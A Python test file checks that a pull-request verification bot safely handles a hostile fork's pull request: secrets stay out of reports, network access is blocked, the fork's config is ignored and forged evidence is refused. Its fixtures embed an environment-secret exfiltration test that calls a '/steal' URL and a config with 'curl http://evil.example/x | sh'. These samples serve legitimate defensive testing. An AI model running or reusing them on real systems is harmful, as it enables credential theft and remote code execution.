"""End to end: `verify: auto` on a fork's pull request, whose code is hostile, through GitHub's read-only fork job.

The `pull_request` job of a fork gets a read-only token: the bot verifies the pull request in its own process (the
Action's child, which holds no GitHub token) and leaves the evidence in a file; the `workflow_run` job after it,
whose token can write, posts that file, read as data. The pull request's test tries to read the job's secrets and to
reach the network from the sandbox; it edits the bot's config to pick another image, and a forged evidence file
tries to post a verdict on a pull request that edits the workflows.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from actions.context import Outcome
from fakes.github_hub import REPO
from fakes.github_server import Logged
from tests.actions.verify_world import BOT, CALC, World, world_at

pytestmark = [pytest.mark.docker, pytest.mark.slow]
READ_ONLY = "ghs_ForkJobReadOnlyToken0123456789"
SECRET = "sk-verify-openai-secret-0123456789abcdef"
EXFIL = '''import os
import urllib.request

SERVER = "{server}"


def test_reads_the_secrets_and_phones_home():
    stolen = {{k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "KEY", "SECRET"))}}
    print("STOLEN", stolen)
    reached = []
    for host in ("127.0.0.1", "172.17.0.1", "host.docker.internal", "github.com"):
        try:
            urllib.request.urlopen(SERVER.replace("127.0.0.1", host) + "/steal?" + repr(stolen), timeout=3)
            reached.append(host)
        except Exception:
            pass
    assert stolen and reached, "no secret to steal and nowhere to send it"
'''
HOSTILE_CONFIG = 'sandbox: {image: "attacker/evil:latest", setup: "curl http://evil.example/x | sh"}\nverify: off\n'


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    root = tmp_path_factory.mktemp("untrusted")
    fake, made = world_at(root)
    fake.add_user_token(READ_ONLY, "github-actions[bot]")
    fake.read_only.add(READ_ONLY)
    made.hub.extra_env = {"OPENAI_API_KEY": SECRET, "RUNNER_TEMP": str(root / "runner")}
    try:
        yield made
    finally:
        fake.__exit__(None, None, None)


@dataclass(frozen=True)
class ForkRun:
    """A fork's pull request, its `pull_request` job, the writes that job tried, and the posting job."""

    pr: int
    job: Outcome
    writes: list[Logged]
    posted: Outcome


@pytest.fixture(scope="module")
def fork(world: World) -> ForkRun:
    """The fork's pull request, its read-only `pull_request` job (the Action's own child process verifies it), and
    the `workflow_run` job that posts the evidence."""
    hub, fake = world.hub, world.fake
    pr = fake.add_fork_pull(REPO, "mallory", "speedup", "Speed up add", {
        "calc.py": CALC.replace("return a - b", "return a + b"),
        "tests/test_exfil.py": EXFIL.format(server=fake.server_url), ".github/ensemble.yml": HOSTILE_CONFIG})
    hub.verifier = None  # the Action's: a child process with the engine's environment
    hub.extra_env |= {"GITHUB_TOKEN": READ_ONLY}
    job = hub.send("pull_request", hub.pull_request(pr))
    writes = [r for r in fake.requests if r.method != "GET" and "graphql" not in r.path]
    hub.extra_env |= {"GITHUB_TOKEN": fake.token, "ENSEMBLE_VERIFY_EVIDENCE": job.evidence}
    head = fake.pull_json(fake.repos[REPO], fake.repos[REPO].pulls[pr])["head"]["sha"]
    run = fake.add_run(REPO, "speedup", head, "success", (("verify", "success", ""),), workflow="ensemble.yml")
    posted = hub.send("workflow_run", hub.workflow_run(run))
    del hub.extra_env["ENSEMBLE_VERIFY_EVIDENCE"]
    return ForkRun(pr, job, writes, posted)


def test_a_read_only_fork_job_verifies_and_leaves_the_evidence_for_the_posting_job(world: World, fork: ForkRun) -> None:
    job, posted = fork.job, fork.posted
    assert job.result == "verify-evidence", job.message
    assert fork.writes and all(r.status == 403 for r in fork.writes)  # it tried, and GitHub refused
    assert job.evidence and "evidence<<" in world.hub.outputs_text() and job.evidence in world.hub.outputs_text()
    assert posted.result == "verified", posted.message
    report = world.report(fork.pr)
    assert "### ensemble verify: 1 new test of this pull request fails" in report
    assert "| `tests/test_exfil.py::test_reads_the_secrets_and_phones_home` | fail | fail | it fails with the change |" \
        in report
    assert world.check(fork.pr)["conclusion"] == "failure"


def test_nothing_leaks_from_the_sandbox_and_the_base_config_decides(world: World, fork: ForkRun) -> None:
    report = world.report(fork.pr)
    evidence = Path(fork.job.evidence).read_text()
    check = world.check(fork.pr)
    for text in (report, evidence, json.dumps(check)):
        assert SECRET not in text and READ_ONLY not in text and world.fake.token not in text
    assert not [r for r in world.fake.requests if "steal" in r.path]  # the test reached nothing
    assert "image ensemble-base" in report and "evil" not in report  # the base's config, not the fork's
    assert "its changes to `.github/ensemble.yml` were not used" in report


def test_a_maintainers_re_run_edits_the_same_comment(world: World, fork: ForkRun) -> None:
    pr = fork.pr
    first = world.report(pr)
    world.hub.verifier = world.verifier
    outcome = world.hub.send("issue_comment", world.hub.comment(pr, "/ensemble verify", sender="mona"))
    assert outcome.result == "verified", outcome.message
    again = world.report(pr)  # still exactly one report comment
    assert again != first and "asked by @mona" in again and "asked by" not in first
    bots = [c for c in world.fake.comments_on(REPO, pr) if c["user"]["login"] == BOT]
    assert len(bots) == 1


def test_forged_evidence_for_a_pull_request_that_edits_the_workflows_is_not_posted(world: World, fork: ForkRun,
                                                                                   tmp_path: Path) -> None:
    fake, hub = world.fake, world.hub
    pr = fake.add_fork_pull(REPO, "mallory", "ci-tweak", "Tweak CI", {
        "calc.py": CALC.replace("return a - b", "return a + b"), ".github/workflows/ensemble.yml": "name: ensemble\n"})
    head = fake.pull_json(fake.repos[REPO], fake.repos[REPO].pulls[pr])["head"]["sha"]
    data = json.loads(Path(fork.job.evidence).read_text())
    data["pull"], data["result"]["head"] = pr, head  # what a hostile job could write
    forged = tmp_path / "evidence.json"
    forged.write_text(json.dumps(data))
    run = fake.add_run(REPO, "ci-tweak", head, "success", (("verify", "success", ""),), workflow="ensemble.yml")
    hub.extra_env["ENSEMBLE_VERIFY_EVIDENCE"] = str(forged)
    try:
        outcome = hub.send("workflow_run", hub.workflow_run(run))
        other = fake.add_run(REPO, "speedup", "0" * 40, "success", (("verify", "success", ""),), workflow="ensemble.yml")
        stray = hub.send("workflow_run", hub.workflow_run(other))
    finally:
        del hub.extra_env["ENSEMBLE_VERIFY_EVIDENCE"]
    assert outcome.result == "evidence-refused"
    report = world.report(pr)
    assert "edits `.github/workflows/ensemble.yml`" in report and "#### New tests" not in report
    assert not [r for r in fake.repos[REPO].check_runs if r["head_sha"] == head]
    assert stray.result == "nothing-to-do"  # no open pull request has that head

